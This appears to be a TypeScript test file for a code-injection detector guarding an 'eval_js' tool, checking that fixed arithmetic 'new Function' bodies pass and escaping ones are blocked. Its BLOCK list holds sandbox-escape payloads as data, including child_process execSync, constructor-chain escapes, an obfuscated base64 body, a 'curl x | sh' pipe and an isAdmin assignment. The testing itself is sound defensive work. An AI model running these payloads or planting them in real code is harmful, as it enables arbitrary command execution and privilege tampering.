/** A `new Function` of a constant arithmetic formula passes; built or escaping bodies block. */
import assert from "node:assert/strict";
import { constantFormulaFunction } from "./_code_formula_fn.ts";
import { codeInjectionDetector } from "./code_injection.ts";

const FIELD = { stage: "input" as const, path: "$.arguments.code", key: "code", tool: "eval_js" };
const blocked = (code: string): boolean =>
  codeInjectionDetector.scan(code, FIELD, codeInjectionDetector.optionsSchema!.parse({}))
    .some((f) => f.severity === "high" || f.severity === "critical");

const PASS = [
  "const total = new Function('row', 'return row.price * row.qty * (1 - row.discount)');\nconsole.log([{price: 3, qty: 2, discount: 0}].map(total));",
  'const toF = new Function("c", "return c * 9 / 5 + 32");\nconsole.log(toF(21));',
  "const vat = new Function('net', 'rate', 'return Math.round(net * (1 + rate) * 100) / 100;');\nvat(100, 0.21);",
  "const ok = new Function('a', 'b', 'return a >= b && b > 0 ? a / b : 0'); ok(4, 2);",
];
const BLOCK = [
  // a body that reaches the process or a constructor chain
  "new Function('return process')().mainModule.require('child_process').execSync('id')",
  "const f = new Function('x', 'return x.constructor.constructor(x.code)()'); f(input);",
  "new Function('return this')().process.exit(1)",
  // a body built at run time
  "const f = new Function('row', body); f(r);",
  "const f = new Function('row', 'return ' + userFormula); f(r);",
  "new Function(atob('cmV0dXJuIHByb2Nlc3M='))()",
  // a formula next to another code-running construct
  "const t = new Function('a', 'return a * 2'); require('child_process').exec('curl x | sh');",
  // an assignment in the body
  "new Function('o', 'return o.isAdmin = true')",
];

Deno.test("constantFormulaFunction: fixed arithmetic only", () => {
  for (const c of PASS) assert.equal(constantFormulaFunction(c, FIELD), true, c);
  for (const c of BLOCK) assert.equal(constantFormulaFunction(c, FIELD), false, c);
});

Deno.test("code_injection: formula Functions pass, built or escaping ones block", () => {
  for (const c of PASS) assert.equal(blocked(c), false, c);
  for (const c of BLOCK) assert.equal(blocked(c), true, c);
});
